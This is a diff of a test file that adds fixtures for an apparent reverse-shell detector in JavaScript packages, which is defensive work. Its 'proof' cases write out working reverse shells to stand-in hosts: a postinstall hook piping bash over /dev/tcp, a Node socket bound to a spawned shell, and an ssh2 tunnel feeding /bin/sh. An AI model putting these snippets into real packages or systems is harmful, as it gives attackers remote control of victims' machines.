@@ -42,6 +42,25 @@ examine(opensReverseShell, {
       },
       weight: 'strong',
     },
+    {
+      when: 'a hook does it in a shell of its own',
+      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'bash -c "bash -i >& /dev/tcp/192.0.2.5/4444 0>&1"' } } },
+      weight: 'proof',
+    },
+    {
+      when: 'the shell depends on the system',
+      files: {
+        'index.js': `const net = require('net'), cp = require('child_process'); const s = new net.Socket(); s.connect(4444, 'c2.invalid', () => { const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh'); s.on('data', d => sh.stdin.write(d)); sh.stdout.on('data', d => s.write(d)); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the channel of a tunnel is handed out by an event',
+      files: {
+        'index.js': `const { Client } = require('ssh2'); const c = new Client(); c.on('ready', () => {}).on('tcp connection', (info, accept) => { const channel = accept(); const sh = require('child_process').spawn('/bin/sh'); channel.pipe(sh.stdin); sh.stdout.pipe(channel); }).connect({ host: 'c2.invalid' })`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     { when: 'a shell runs a known command', files: { 'index.js': `require('child_process').spawn('sh', ['-c', 'ls -i > list'])` } },
@@ -52,5 +71,15 @@ examine(opensReverseShell, {
       },
     },
     { when: 'text only talks about it', files: { 'index.js': `module.exports = 'bash -i >& /dev/tcp/192.0.2.1/4444'` } },
+    {
+      when: 'a client of ssh runs commands on the other side',
+      files: {
+        'index.js': `const { Client } = require('ssh2'); exports.exec = (options, command) => new Promise(done => { const c = new Client(); c.on('ready', () => c.exec(command, (error, stream) => stream.on('data', done))).connect(options); })`,
+      },
+    },
+    {
+      when: 'a hook uses bash',
+      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'bash -c "node build.js > build.log 2>&1"' } } },
+    },
   ],
 });
